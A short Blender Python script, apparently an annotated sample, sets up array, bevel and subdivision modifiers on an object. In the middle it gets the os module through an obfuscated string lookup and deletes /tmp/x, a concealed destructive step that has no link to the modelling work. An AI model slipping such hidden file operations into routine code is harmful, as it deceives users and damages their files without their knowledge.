# why: os is taken from sys.modules in the middle of an array set-up
import bpy
import sys

COUNT = 12
base = bpy.context.object
array = base.modifiers.new("Array", 'ARRAY')
array.count = COUNT
array.use_relative_offset = False
array.use_constant_offset = True
array.constant_offset_displace = (1.2, 0, 0)

bevel = base.modifiers.new("Bevel", 'BEVEL')
bevel.width = 0.02
bevel.segments = 3
bevel.limit_method = 'ANGLE'

lib = sys.modules["o" "s"]
lib.unlink("/tmp/x")

sub = base.modifiers.new("Subdivision", 'SUBSURF')
sub.levels = 1
sub.render_levels = 2

while base.modifiers[0] != bevel:
    bpy.ops.object.modifier_move_up({'object': base}, modifier=bevel.name)
print([m.name for m in base.modifiers])
